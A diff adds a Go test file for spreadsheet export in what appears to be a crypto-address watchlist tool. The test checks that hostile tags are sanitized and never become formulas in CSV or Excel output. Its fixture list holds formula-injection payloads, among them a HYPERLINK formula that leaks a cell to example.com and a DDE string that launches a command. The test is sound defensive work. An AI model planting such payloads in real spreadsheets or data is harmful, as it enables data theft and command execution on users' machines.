@@ -0,0 +1,142 @@
+package core
+
+import (
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+)
+
+// hostileTags 来自不可信文件的标签：公式、换行、不可见字符和超长内容
+var hostileTags = []string{
+	`=HYPERLINK("http://example.com/?leak="&A1,"点击")`,
+	"+cmd|' /C calc'!A0",
+	"-2+3",
+	"@SUM(1,2)",
+	"\t=1+1",
+	"交易所\n=1+1",
+	"\u200b=1+1",
+	"\r\n\r\n",
+	strings.Repeat("长", 10*MaxTagLength),
+}
+
+func TestSanitizeTag(t *testing.T) {
+	cases := []struct {
+		in, want string
+	}{
+		{"  交易所热钱包  ", "交易所热钱包"},
+		{"交易所\n=1+1", "交易所 =1+1"},
+		{"a\r\nb\tc", "a  b c"},
+		{"\u200b\ufeff可疑\u202e", "可疑"},
+		{"\t=1+1", "=1+1"},
+		{"\r\n\r\n", ""},
+		{strings.Repeat("长", MaxTagLength+1), strings.Repeat("长", MaxTagLength)},
+	}
+	for _, c := range cases {
+		if got := sanitizeTag(c.in); got != c.want {
+			t.Errorf("sanitizeTag(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+// isInert 单元格是否不会被表格软件当作公式执行，且不跨行
+func isInert(value string) bool {
+	if strings.ContainsAny(value, "\r\n") {
+		return false
+	}
+	return value == "" || value[0] == '\'' || !strings.ContainsRune(formulaTriggers, rune(value[0]))
+}
+
+// 关注列表文件中的恶意标签：加载时清理，导出的 CSV 和 Excel 中不会成为公式，也不会插入多余的行
+func TestExportHostileTags(t *testing.T) {
+	addrs := testAddresses(len(hostileTags))
+	var lines []string
+	for i, tag := range hostileTags {
+		// 换行会把关注列表拆成多行，写入时先转义，由 LoadWatchlist 按行读取后的内容为准
+		lines = append(lines, addrs[i]+","+strings.NewReplacer("\n", " ", "\r", " ").Replace(tag))
+	}
+	watchPath := filepath.Join(t.TempDir(), "watch.txt")
+	if err := os.WriteFile(watchPath, []byte(strings.Join(lines, "\n")), 0644); err != nil {
+		t.Fatal(err)
+	}
+	watchlist, err := LoadWatchlist(watchPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	results := make([]QueryResult, len(hostileTags))
+	for i, tag := range hostileTags {
+		// 标签直接写入结果（不经过 Tags.Set 的检查），导出时仍要处理公式
+		results[i] = QueryResult{Address: addrs[i], Balance: "1", Status: StatusSuccess, Tag: tag}
+	}
+	watchlist.Apply(results)
+	for i, result := range results {
+		if tag := result.WatchTag; strings.ContainsAny(tag, "\r\n\t\u200b") || len([]rune(tag)) > MaxTagLength {
+			t.Errorf("关注列表标签 %q 加载后为 %q，未清理", hostileTags[i], tag)
+		}
+	}
+
+	dir := t.TempDir()
+	csvPath := filepath.Join(dir, "results.csv")
+	if err := ExportToCSVWithOptions(results, csvPath, ExportOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	file, err := os.Open(csvPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	csvRows, err := csv.NewReader(file).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	xlsxPath := filepath.Join(dir, "results.xlsx")
+	if err := ExportToExcelWithOptions(results, xlsxPath, ExportOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	f, err := excelize.OpenFile(xlsxPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	sheet := f.GetSheetList()[0]
+	xlsxRows, err := f.GetRows(sheet)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for name, rows := range map[string][][]string{"CSV": csvRows, "Excel": xlsxRows} {
+		flagCol, tagCol := slices.Index(rows[0], "关注"), slices.Index(rows[0], "标签")
+		if flagCol < 0 || tagCol < 0 {
+			t.Fatalf("%s: 表头 %v 中没有关注列或标签列", name, rows[0])
+		}
+		for i, result := range results {
+			row := rows[i+1]
+			if row[0] != result.Address {
+				t.Fatalf("%s: 第 %d 行地址 %q, want %q（标签插入了多余的行）", name, i+2, row[0], result.Address)
+			}
+			if flag := row[flagCol]; !isInert(flag) {
+				t.Errorf("%s: 关注标签 %q 导出为 %q", name, hostileTags[i], flag)
+			}
+			// 直接写入的标签保留原文（含换行，CSV 中在引号内），只检查不会成为公式
+			if tag := row[tagCol]; !isInert(strings.NewReplacer("\n", " ", "\r", " ").Replace(tag)) {
+				t.Errorf("%s: 标签 %q 导出为 %q，会被当作公式", name, hostileTags[i], tag)
+			}
+		}
+	}
+
+	// Excel 中不应写入任何公式
+	for i := range results {
+		for col := 1; col <= len(xlsxRows[0]); col++ {
+			cell, _ := excelize.CoordinatesToCellName(col, i+2)
+			if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
+				t.Errorf("Excel 单元格 %s 是公式 %q", cell, formula)
+			}
+		}
+	}
+}